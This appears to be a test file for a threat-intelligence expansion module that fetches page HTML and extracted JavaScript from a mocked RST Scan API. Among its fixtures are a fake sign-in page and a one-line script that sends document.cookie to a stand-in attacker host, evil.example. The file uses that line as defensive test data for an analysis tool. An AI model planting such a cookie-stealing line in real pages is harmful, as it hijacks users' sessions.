/**
 * rst_html against a loopback RST Scan API (`GET /v1/scan/html/body` and
 * `/v1/scan/html/body/js`, `?target=…`, key in X-Api-Key), answering JSON
 * `{body, http_status, title, content_length, truncated, hashes}` or, as
 * rstapi also accepts, the page itself as text.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import rst_html from '../../../src/modules/expansion/rst_html.js';
import { testModule, vendorFailureRows, type VendorRequest } from '../../support/module-tester.js';
import { assertEchoed, assertOneGet, assertTextOnly, attribute, CONFIG, KEY, NO_KEY, onlyObject, RST_HOST, UUID, withKey } from './rstcloud-fake.js';

const PAGE = '<!doctype html><html><head><title>Sign in – Drive</title></head><body><form action="/login"></form></body></html>';
const SCRIPT = 'window.location.href="https://evil.example/collect?c="+document.cookie;';
const hash = (algorithm: string, text: string) => createHash(algorithm).update(text).digest('hex');

const RST = {
  'GET /v1/scan/html/body': withKey(() => ({
    json: { body: PAGE, http_status: 200, title: 'Sign in – Drive', content_length: 4096, truncated: true, hashes: { md5: hash('md5', PAGE), sha1: hash('sha1', PAGE), sha256: hash('sha256', PAGE) } },
  })),
  'GET /v1/scan/html/body/js': withKey(() => ({ headers: { 'content-type': 'application/javascript' }, body: SCRIPT })),
};

const sent = (path: string, target: string) => (requests: VendorRequest[]) => assertOneGet(requests, path, { target });

testModule({
  module: rst_html,
  vendors: { [RST_HOST]: RST },
  config: CONFIG,
  rows: [
    {
      name: 'the HTML body: a file object with page.html attached, its hashes and a note',
      query: attribute('url', 'https://drive.example.com/login'),
      inputUuids: [UUID],
      requests: sent('/v1/scan/html/body', 'https://drive.example.com/login'),
      check: (answer) => {
        assertEchoed(answer, 'https://drive.example.com/login');
        const { object, values } = onlyObject(answer, 'file', 'derived-from');
        assert.equal(object.comment, 'RST HTML Fetcher');
        assert.deepEqual(values, {
          attachment: ['page.html'],
          filename: ['page.html'],
          mimetype: ['text/html'],
          'size-in-bytes': ['4096'],
          md5: [hash('md5', PAGE)],
          sha1: [hash('sha1', PAGE)],
          sha256: [hash('sha256', PAGE)],
          text: ['RST HTML body for https://drive.example.com/login; HTTP 200; title: Sign in – Drive; (body truncated)'],
        });
        assert.equal(Buffer.from(object.Attribute[0]!.data!, 'base64').toString('utf8'), PAGE);
      },
    },
    {
      name: 'mode js: the extracted script, answered as text, sized in UTF-8 bytes',
      query: attribute('hostname', 'drive.example.com'),
      config: { mode: 'JS' },
      inputUuids: [UUID],
      requests: sent('/v1/scan/html/body/js', 'drive.example.com:443'),
      check: (answer) => {
        const { object, values } = onlyObject(answer, 'file', 'derived-from');
        assert.deepEqual(values, {
          attachment: ['page.js'],
          filename: ['page.js'],
          mimetype: ['application/javascript'],
          'size-in-bytes': [String(Buffer.byteLength(SCRIPT))],
          text: ['RST extracted JavaScript for drive.example.com:443'],
        });
        assert.equal(Buffer.from(object.Attribute[0]!.data!, 'base64').toString('utf8'), SCRIPT);
      },
    },
    {
      name: 'a page answered as text with non-ASCII characters: the size counts bytes',
      query: attribute('ip-dst|port', '203.0.113.7|8080'),
      routes: { 'GET /v1/scan/html/body': { headers: { 'content-type': 'text/html; charset=utf-8' }, body: '<p>Zürich – café</p>' } },
      inputUuids: [UUID],
      requests: sent('/v1/scan/html/body', '203.0.113.7:8080'),
      check: (answer) => assert.deepEqual(onlyObject(answer, 'file', 'derived-from').values['size-in-bytes'], [String(Buffer.byteLength('<p>Zürich – café</p>'))]),
    },
    { name: 'an empty body: "empty response"', query: attribute('domain', 'example.com'), routes: { 'GET /v1/scan/html/body': { json: { body: '', http_status: 204 } } }, check: (answer) => assertTextOnly(answer, 'example.com:443: empty response', 'RST HTML Fetcher') },
    { name: 'a JSON answer that is not a page: "empty response"', query: attribute('domain', 'example.com'), routes: { 'GET /v1/scan/html/body': { json: [1, 2] } }, check: (answer) => assertTextOnly(answer, 'example.com:443: empty response', 'RST HTML Fetcher') },
    { name: "no api_key: upstream's exact message, nothing sent", query: attribute('domain', 'example.com'), config: { api_key: '' }, error: NO_KEY, requests: (r) => assert.equal(r.length, 0) },
    { name: 'an empty value', query: attribute('url', ''), messageId: 'noTarget' },
    { name: 'a wrong key: the gateway says Forbidden', query: attribute('domain', 'example.com'), config: { api_key: `${KEY}x` }, error: 'RST Cloud refused the key (setting api_key, HTTP 403 Forbidden).' },
    { name: 'a 404 is a vendor error', query: attribute('domain', 'example.com'), routes: { 'GET /v1/scan/html/body': { status: 404, json: { message: 'Not Found' } } }, error: 'RST Cloud answered HTTP 404 Not Found.' },
    {
      name: 'an answer that does not parse as JSON is the page itself, as rstapi reads it',
      query: attribute('domain', 'example.com'),
      routes: { 'GET /v1/scan/html/body': { status: 200, headers: { 'content-type': 'application/json' }, body: '{"data": [tru' } },
      inputUuids: [UUID],
      check: (answer) => assert.deepEqual(onlyObject(answer, 'file', 'derived-from').values['size-in-bytes'], ['13']),
    },
    ...vendorFailureRows({ query: attribute('domain', 'example.com'), route: 'GET /v1/scan/html/body', skip: ['malformed'] }),
  ],
});
